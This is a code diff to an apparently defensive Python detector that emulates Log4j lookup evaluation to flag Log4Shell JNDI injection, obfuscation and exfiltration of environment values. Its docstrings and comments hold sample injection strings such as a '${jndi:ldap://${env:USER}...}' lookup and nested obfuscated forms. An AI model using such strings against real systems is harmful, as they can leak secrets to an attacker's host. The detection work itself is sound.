@@ -26,7 +26,7 @@ from detectors.model import LIMIT_DEPTH, LIMIT_STEPS
 
 #: Bounds on the work for one string (see :class:`Limits`).
 DEFAULT_MAX_DEPTH = 32
-DEFAULT_MAX_STEPS = 4096
+DEFAULT_MAX_STEPS = 1024
 
 PLACEHOLDER_OPEN = "\u27ea"
 PLACEHOLDER_CLOSE = "\u27eb"
@@ -81,7 +81,7 @@ class Limits:
 
     Example:
         >>> Limits(max_depth=8).max_steps
-        4096
+        1024
     """
 
     max_depth: int = DEFAULT_MAX_DEPTH
@@ -97,6 +97,10 @@ class JndiCall:
         display: the name with victim values written ``${env:NAME}``.
         exfil: victim values inside the name.
         rescan: reached only in a second pass of the message converter.
+
+    Example:
+        >>> evaluate("${jndi:ldap://${env:USER}.example.com/a}").jndi[0].exfil
+        ('env:USER',)
     """
 
     name: str
@@ -116,6 +120,11 @@ class Evaluation:
         techniques: technique tags observed.
         aborted: ``recursion`` or ``illegal-argument`` when Log4j would throw.
         limit_hit: the work bound that stopped evaluation, if any.
+        steps: work done, in the units of :attr:`Limits.max_steps`.
+
+    Example:
+        >>> evaluate("${${::-${::-$${::-j}}}}").aborted
+        'recursion'
     """
 
     output: str = ""
@@ -124,6 +133,7 @@ class Evaluation:
     techniques: set[str] = field(default_factory=set)
     aborted: str | None = None
     limit_hit: str | None = None
+    steps: int = 0
 
 
 def evaluate(value: str, limits: Limits | None = None) -> Evaluation:
@@ -145,27 +155,31 @@ def evaluate(value: str, limits: Limits | None = None) -> Evaluation:
         result.limit_hit = exc.kind
     except RecursionError:
         result.limit_hit = LIMIT_DEPTH
+    result.steps = run.steps
 
     return result
 
 
 def _split_default(expr: str) -> tuple[str, str | None]:
-    """Split ``name:-default`` like StrSubstitutor, including the ``:\\-`` escape."""
-    start = expr.find(":")
-    while 0 <= start < len(expr) - 1:
-        if expr.startswith(":\\-", start):
-            # Log4j keeps the escaped delimiter as ':' + '-' in the name, then
-            # looks for a real delimiter further right.
-            prefix = expr[:start] + ":"
-            cut = expr.find(":-", start + 3)
-            if cut >= 0:
-                return prefix + expr[start + 3 : cut], expr[cut + 2 :]
-            return prefix + expr[start + 2 :], None
-        if expr[start + 1] == "-":
-            return expr[:start], expr[start + 2 :]
-        start = expr.find(":", start + 1)
+    """Split ``name:-default`` like StrSubstitutor, including the ``:\\-`` escape.
 
-    return expr, None
+    StrSubstitutor tries both delimiters at each position from the left; they
+    cannot match at the same position, so the leftmost match of either decides.
+    """
+    cut = expr.find(":-")
+    escaped = expr.find(":\\-") if "\\" in expr else -1
+    if escaped < 0 or 0 <= cut < escaped:
+        if cut < 0:
+            return expr, None
+        return expr[:cut], expr[cut + 2 :]
+    # Log4j keeps the escaped delimiter as ':' + '-' in the name, then looks for
+    # a real delimiter further right.
+    prefix = expr[:escaped] + ":"
+    cut = expr.find(":-", escaped + 3)
+    if cut >= 0:
+        return prefix + expr[escaped + 3 : cut], expr[cut + 2 :]
+
+    return prefix + expr[escaped + 2 :], None
 
 
 class _Run:
@@ -176,6 +190,9 @@ class _Run:
         self.steps = 0
         self.evaluation = Evaluation()
         self.victims: list[tuple[str, str]] = []
+        # victim lookups that fell back to their default: (canonical, default)
+        self.defaulted: list[tuple[str, str]] = []
+        self.last_victim: str | None = None
         self.pass_no = 0
 
     # -- MessagePatternConverter.format -------------------------------------------
@@ -220,13 +237,14 @@ class _Run:
         if depth > self.limits.max_depth:
             raise _LimitReached(LIMIT_DEPTH)
         out: list[str] = []
+        tail = ""  # last character of `out`
         seg = 0
         pos = 0
         while True:
             p = s.find("${", pos)
             if p < 0:
                 break
-            prev = s[p - 1] if p > seg else _last_char(out)
+            prev = s[p - 1] if p > seg else tail
             if prev == "$":
                 # `$${` : Log4j deletes the escape and scans on from the brace.
                 self._step()
@@ -236,6 +254,7 @@ class _Run:
                     seg = p
                 else:
                     _drop_last_char(out)
+                tail = _last_char(out)
                 pos = p + 1
                 continue
             end = self._match(s, p + 2)
@@ -253,15 +272,22 @@ class _Run:
             if name in prior:
                 raise _Abort("recursion")
             prior.append(name)
+            self.last_victim = None
             value = self._resolve(name, s[p : end + 1])
             if value is None and default is not None:
                 value = default
                 self.evaluation.techniques.add("default-value")
+                if self.last_victim is not None:
+                    self.defaulted.append((self.last_victim, default))
             if value is not None:
                 if "${" in value:
                     value = self._subst(value, prior, depth + 1)
                 out.append(s[seg:p])
                 out.append(value)
+                if value:
+                    tail = value[-1]
+                elif p > seg:
+                    tail = s[p - 1]
                 seg = end + 1
             prior.pop()
             pos = end + 1
@@ -275,8 +301,11 @@ class _Run:
         """Index of the ``}`` closing a variable whose name starts at ``start``."""
         nested = 0
         pos = start
+        limit = self.limits.max_steps
         while True:
-            self._step()
+            self.steps += 1
+            if self.steps > limit:
+                raise _LimitReached(LIMIT_STEPS)
             close = s.find("}", pos)
             if close < 0:
                 return -1
@@ -291,7 +320,9 @@ class _Run:
     # -- Interpolator.lookup ----------------------------------------------------------
 
     def _resolve(self, name: str, raw: str) -> str | None:
-        self._step()
+        self.steps += 1
+        if self.steps > self.limits.max_steps:
+            raise _LimitReached(LIMIT_STEPS)
         evaluation = self.evaluation
         evaluation.names.append(name)
         colon = name.find(":")
@@ -326,7 +357,8 @@ class _Run:
             return value
         if prefix in _UNSET_LOOKUPS:
             techniques.add(_UNSET_LOOKUPS[prefix])
-            self.victims.append((f"{prefix}:{key}", raw))
+            self.last_victim = f"{prefix}:{key}"
+            self.victims.append((self.last_victim, raw))
             return None
         if prefix == "date":
             techniques.add("date-lookup")
@@ -359,6 +391,16 @@ class _Run:
                 display = display.replace(raw, "${" + canonical + "}")
                 if canonical not in exfil:
                     exfil.append(canonical)
+        # `${env:USER:-unknown}` sends "unknown" here but the user name on a victim
+        # that has one: a fallback of two or more characters that lands after the
+        # scheme's `//` is an exfiltration attempt, not the one-letter filler of
+        # `${env:NaN:-j}`.
+        authority = name.find("//")
+        if authority >= 0:
+            after = name[authority + 2 :]
+            for canonical, default in self.defaulted:
+                if len(default) >= 2 and default in after and canonical not in exfil:
+                    exfil.append(canonical)
         if PLACEHOLDER_OPEN in display:
             for match in _PLACEHOLDER.finditer(display):
                 if match.group(1) not in exfil:
@@ -366,6 +408,8 @@ class _Run:
             display = _PLACEHOLDER.sub(r"${\1}", display)
         if exfil:
             self.evaluation.techniques.add("exfiltration")
+            # in the order they appear in the target; fallbacks last
+            exfil.sort(key=lambda c: display.find("${" + c + "}") % (len(display) + 1))
         self.evaluation.jndi.append(JndiCall(name, display, tuple(exfil), False))
 
 
@@ -390,8 +434,9 @@ def _ascii_count(text: str) -> int:
 
 # -- DateLookup: java.text.SimpleDateFormat over a fixed instant -------------------
 
-#: The instant date lookups format: the Unix epoch in UTC. The victim's clock is
-#: unknown; the differential tests give Log4j the same instant and time zone.
+#: The instant date lookups format: 1 ms after the Unix epoch, in UTC (Log4j's event
+#: builder reads a time of 0 as "now"). The victim's clock is unknown; the
+#: differential tests give Log4j the same instant, time zone and locale.
 _EPOCH_FIELDS = {
     "G": ("AD", "AD"),
     "y": ("1970", "70"),
@@ -412,7 +457,7 @@ _EPOCH_FIELDS = {
     "h": ("12",),
     "m": ("0",),
     "s": ("0",),
-    "S": ("0",),
+    "S": ("1",),
     "z": ("UTC", "Coordinated Universal Time"),
     "Z": ("+0000",),
     "X": ("Z",),
